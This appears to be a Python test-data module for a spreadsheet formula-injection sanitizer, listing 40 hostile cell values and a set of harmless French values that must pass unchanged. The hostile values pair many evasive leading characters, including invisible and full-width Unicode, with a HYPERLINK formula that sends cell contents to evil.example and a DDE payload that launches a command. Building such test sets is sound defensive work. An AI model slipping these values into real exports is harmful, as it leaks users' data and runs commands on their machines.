"""What somebody types into a name so that it acts in somebody else's spreadsheet (40 ways)."""

_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%", " =", "\u00a0=", "\u202f+", "\ufeff=", "\u200b=",
           "\u2060@", "\u00ad-", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # fmt: skip
FORMULAS = [
    start + body
    for start in _STARTS
    for body in ('HYPERLINK("https://evil.example/"&A1;"Vérifier")', "cmd|' /C calc'!A0")
]
#: Cells that only look like trouble, and must stay as they are.
HARMLESS = [
    "",
    "SARL L'Œuvre & Fils",
    "'déjà'",
    "732829320",
    "0117",
    "l'=e",
    "…",
    "« Chez Zoé »",
    "(Radié)",
    "\u200f\u0645",
]
